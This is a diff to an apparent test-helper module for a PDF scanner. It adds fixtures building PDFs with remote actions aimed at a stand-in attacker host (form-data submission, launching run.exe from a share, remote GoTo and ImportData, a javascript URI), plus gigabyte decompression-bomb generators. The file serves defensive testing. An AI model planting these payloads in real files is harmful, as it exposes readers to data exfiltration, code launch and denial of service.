@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import functools
 import io
 import struct
 import zipfile
@@ -148,6 +149,66 @@ def _encrypt(document: pikepdf.Pdf, passwords: tuple[str, str]) -> None:
     """Applied when saving."""
 
 
+SHARE = r"\\attacker.invalid\share"
+# One action of each kind that reaches outside the file, as the review listed them.
+REMOTE_ACTIONS = {
+    "GoToR": lambda: pikepdf.Dictionary(
+        S=pikepdf.Name.GoToR, F=pikepdf.String(SHARE + r"\report.pdf"), D=pikepdf.Array([0, pikepdf.Name.Fit])
+    ),
+    "GoToE": lambda: pikepdf.Dictionary(
+        S=pikepdf.Name.GoToE,
+        F=pikepdf.String(SHARE + r"\outer.pdf"),
+        D=pikepdf.Array([0, pikepdf.Name.Fit]),
+        T=pikepdf.Dictionary(R=pikepdf.Name.C, N=pikepdf.String("inner.pdf")),
+    ),
+    "ImportData": lambda: pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String(SHARE + r"\data.fdf")),
+    "SubmitForm": lambda: pikepdf.Dictionary(
+        S=pikepdf.Name.SubmitForm,
+        F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("https://attacker.invalid/collect")),
+        Flags=4,
+    ),
+    "Launch": lambda: pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String(SHARE + r"\run.exe")),
+    "URI https": lambda: pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://bank.example/statement")),
+    "URI javascript": lambda: pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:app.alert(1)")),
+}
+
+
+def _link(document: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
+    """A link annotation over the top of the first page that runs `action` when clicked."""
+    link = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([72, 760, 300, 780]), A=action
+    )
+    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(link)])
+
+
+def _link_action(document: pikepdf.Pdf, kind: str) -> None:
+    _link(document, REMOTE_ACTIONS[kind]())
+
+
+def _open_action(document: pikepdf.Pdf, kind: str) -> None:
+    document.Root.OpenAction = document.make_indirect(REMOTE_ACTIONS[kind]())
+
+
+def _page_open_action(document: pikepdf.Pdf, kind: str) -> None:
+    document.pages[0].obj.AA = pikepdf.Dictionary(O=REMOTE_ACTIONS[kind]())
+
+
+def _internal_links(document: pikepdf.Pdf, pages: int) -> None:
+    """`pages` more pages and, on the first, a table of contents: a /GoTo link and a /Dest link."""
+    for _ in range(pages):
+        document.add_blank_page(page_size=(595, 842))
+    _link(
+        document, pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([document.pages[-1].obj, pikepdf.Name.Fit]))
+    )
+    dest = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Link,
+        Rect=pikepdf.Array([72, 730, 300, 750]),
+        Dest=pikepdf.Array([document.pages[1].obj, pikepdf.Name.Fit]),
+    )
+    document.pages[0].obj.Annots.append(document.make_indirect(dest))
+
+
 PDF_CHANGES = {
     "open_action_js": _javascript_open_action,
     "names_js": _javascript_in_names,
@@ -155,15 +216,19 @@ PDF_CHANGES = {
     "embedded": _embedded_file,
     "xfa": _xfa,
     "encrypt": _encrypt,
+    "link_action": _link_action,
+    "open_action": _open_action,
+    "page_open_action": _page_open_action,
+    "internal_links": _internal_links,
 }
 
 
-def raw_pdf(*extra_objects: bytes) -> bytes:
-    """A one-page PDF written by hand, with `extra_objects` in the file that nothing refers to."""
+def raw_pdf(*extra_objects: bytes, page: bytes = b"") -> bytes:
+    """A one-page PDF written by hand, with `extra_objects` (numbered from 4) that only `page` entries refer to."""
     objects = [
         b"<< /Type /Catalog /Pages 2 0 R >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s>>" % page,
         *extra_objects,
     ]
     out = bytearray(b"%PDF-1.7\n")
@@ -176,3 +241,66 @@ def raw_pdf(*extra_objects: bytes) -> bytes:
     out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
     out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
     return bytes(out)
+
+
+GB = 1 << 30
+
+
+def deflate_bomb(prefix: bytes, inflated: int, chunk: int = 1 << 20) -> bytes:
+    """zlib data that inflates to `prefix` and then `inflated` spaces, made without that memory.
+
+    After a full flush the compressor forgets its history, so every further megabyte of
+    spaces compresses to the same bytes: one piece is made and repeated (about 1,000:1).
+    """
+    spaces = b" " * chunk
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)  # raw deflate: header and checksum added here
+    head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
+    piece = packer.compress(spaces) + packer.flush(zlib.Z_FULL_FLUSH)
+    count = inflated // chunk
+    check = zlib.adler32(prefix)
+    for _ in range(count):
+        check = zlib.adler32(spaces, check)
+    return b"\x78\xda" + head + piece * count + packer.flush() + check.to_bytes(4, "big")
+
+
+@functools.cache
+def object_stream_bomb(inflated: int = GB) -> bytes:
+    """A valid PDF 1.5 of about 1 MB per GB `inflated`: one object sits in a Flate bomb of an object stream.
+
+    Hand-written (pikepdf cannot be asked for padding): catalog, pages and page as plain
+    objects, object 4 (the page's /Info, harmless) inside object stream 5, and a
+    cross-reference stream 6, the only way to point into an object stream.
+    """
+    header, inner = b"4 0 ", b"<< /Producer (scanner) >>"
+    data = deflate_bomb(header + inner + b"\n", inflated)
+    plain = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Info 4 0 R >>",
+    ]
+    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
+    rows = [b"\x00" + bytes(4) + b"\xff\xff"]  # type, offset or object stream, generation or index
+    for number, body in enumerate(plain, start=1):
+        rows.append(b"\x01" + len(out).to_bytes(4, "big") + bytes(2))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    rows.append(b"\x02" + (5).to_bytes(4, "big") + bytes(2))
+    rows.append(b"\x01" + len(out).to_bytes(4, "big") + bytes(2))
+    out += b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
+        len(header),
+        len(data),
+    )
+    out += data + b"\nendstream\nendobj\n"
+    xref = len(out)
+    rows.append(b"\x01" + xref.to_bytes(4, "big") + bytes(2))
+    table = b"".join(rows)
+    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
+    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
+    return bytes(out)
+
+
+@functools.cache
+def content_stream_bomb(inflated: int = GB) -> bytes:
+    """A one-page PDF of a few KB whose page content is Flate in Flate: `inflated` bytes once both are undone."""
+    twice = zlib.compress(deflate_bomb(b"q Q ", inflated), 9)
+    contents = b"<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n%s\nendstream" % (len(twice), twice)
+    return raw_pdf(contents, page=b"/Resources << >> /Contents 4 0 R ")
